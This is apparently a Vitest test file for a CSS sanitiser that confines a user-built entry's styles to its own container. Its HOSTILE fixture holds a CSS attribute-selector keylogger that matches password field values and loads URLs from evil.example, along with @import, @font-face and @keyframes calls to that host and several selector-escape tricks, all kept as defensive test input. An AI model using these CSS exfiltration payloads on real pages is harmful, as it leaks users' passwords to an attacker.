// A Builder entry's CSS reaches only the entry's container: an attribute-selector keylogger over
// the app's own password input matches nothing, and the entry's sheets leave the document with it.
import { afterEach, describe, expect, it } from 'vitest';
import { createBuilderSheets } from './emotionSheet';
import { safeSelector, scopeCss, scopeSelector, splitSelectors } from './scopedCss';

const HOSTILE = `
  input[type="password"][value^="a"] { background-image: url(https://evil.example/a); }
  body:has(input[type="password"][value^="b"]) & { background-image: url(https://evil.example/b); }
  .x :is(body input[type="password"]) { color: red; }
  .y:not(.app-shell > input) { color: red; }
  li:nth-child(2n+1 of body input) { color: red; }
  :host-context(body) .z { color: red; }
  body .w & { color: red; }
  & .title, h1 { color: rgb(1, 2, 3); }
  .card:not(.a, .b) p:nth-child(2n + 1) { margin: 0; }
  @media (min-width: 1px) { input[value^="c"], .m { color: blue; } }
  @supports (display: grid) { .g { display: grid; } }
  @import url(https://evil.example/x.css);
  @font-face { font-family: x; src: url(https://evil.example/f.woff); }
  @keyframes spin { from { background: url(https://evil.example/k); } }
`;

function page() {
  document.body.innerHTML = `
    <form id="app-login"><input id="secret" type="password" value="abc"></form>
    <div class="app-shell"><h1 id="app-title">דואר</h1></div>
    <div id="entry" class="bld-entry-test"><h1 class="title">שלום</h1><p class="m">x</p><input type="password" value="c1"></div>`;
  return {
    outside: [document.getElementById('secret')!, document.getElementById('app-title')!, document.body],
    container: document.getElementById('entry')!,
  };
}

/** Every selector of every style rule in a sheet (inside @media and @supports too). */
function selectorsOf(rules: CSSRuleList): string[] {
  return Array.from(rules).flatMap((r) =>
    r instanceof CSSStyleRule
      ? splitSelectors(r.selectorText)
      : 'cssRules' in r
        ? selectorsOf((r as CSSGroupingRule).cssRules)
        : [],
  );
}

describe('a Builder entry’s CSS', () => {
  afterEach(() => {
    document.adoptedStyleSheets = [];
    document.body.innerHTML = '';
  });

  it('is split at top-level commas only', () => {
    expect(splitSelectors('a, b:not(.c, .d), [title="e,f"]')).toEqual(['a', 'b:not(.c, .d)', '[title="e,f"]']);
  });

  it('keeps compound selectors in functional pseudo-classes and drops what could look outside', () => {
    for (const ok of ['.a', 'a > b + c ~ d', '.c:not(.a, .b)', 'li:nth-child(2n + 1)', '& .t', '[title="a b > c"]']) {
      expect(safeSelector(ok), ok).toBe(true);
    }
    for (const bad of [
      'body:has(input) .x',
      '.x :is(body input)',
      '.y:not(.a > .b)',
      'li:nth-child(2n of body input)',
      ':host-context(body) .z',
      'body .w &',
      '.x:where(.a ~ .b)',
      '.x:-webkit-any(body input)',
    ]) {
      expect(safeSelector(bad), bad).toBe(false);
    }
    expect(scopeSelector('& .title', 's')).toBe('.s .title');
    expect(scopeSelector('&:hover', 's')).toBe('.s:hover');
    expect(scopeSelector('h1', 's')).toBe(':where(.s) h1');
  });

  it('matches nothing outside the entry’s container, and keeps its own rules working inside', () => {
    const { outside, container } = page();
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(scopeCss(HOSTILE, 'bld-entry-test').join('\n'));
    const selectors = selectorsOf(sheet.cssRules);
    expect(selectors.length).toBeGreaterThan(0);
    // What can only look outside is gone; so are imports, fonts and keyframes.
    const text = Array.from(sheet.cssRules)
      .map((r) => r.cssText)
      .join('');
    expect(text).not.toMatch(/evil\.example\/(b|k|f|x)|@import|@font-face|@keyframes|:has|:is\(|:host/);
    const inside = (selector: string, scope: string) =>
      selector.startsWith(`.${scope}`) || selector.startsWith(`:where(.${scope}) `);
    for (const selector of selectors) {
      expect(inside(selector, 'bld-entry-test'), selector).toBe(true);
      for (const el of Array.from(document.querySelectorAll(selector))) {
        expect(container.contains(el), `${selector} matched outside`).toBe(true);
      }
      for (const el of outside) expect(el.matches(selector), selector).toBe(false);
    }
    // The entry's own rules still apply inside.
    expect(selectors).toContain('.bld-entry-test .title');
    expect(selectors).toContain(':where(.bld-entry-test) h1');
    expect(container.querySelector('.title')!.matches('.bld-entry-test .title')).toBe(true);
  });

  it('goes into sheets of its own, adopted while shown and removed after', () => {
    page();
    const appSheet = new CSSStyleSheet();
    document.adoptedStyleSheets = [appSheet];
    const sheets = createBuilderSheets();
    sheets.attach();
    sheets.setContentCss(HOSTILE);
    // Emotion's rules for the blocks are scoped the same way.
    sheets.cache.sheet.insert('input[type=password][value^="d"]{color:red}');
    sheets.cache.sheet.insert(`.bld-1x{margin-top:20px}`);
    const added = document.adoptedStyleSheets.filter((s) => s !== appSheet);
    expect(added).toHaveLength(2);
    for (const s of added) {
      for (const selector of selectorsOf(s.cssRules)) expect(selector.startsWith(`:where(.${sheets.scope}) `) || selector.startsWith(`.${sheets.scope}`)).toBe(true);
    }
    expect(selectorsOf(added[0].cssRules)).toEqual([
      `:where(.${sheets.scope}) input[type="password"][value^="d"]`,
      `:where(.${sheets.scope}) .bld-1x`,
    ]);
    sheets.detach();
    expect(document.adoptedStyleSheets).toEqual([appSheet]);
  });
});
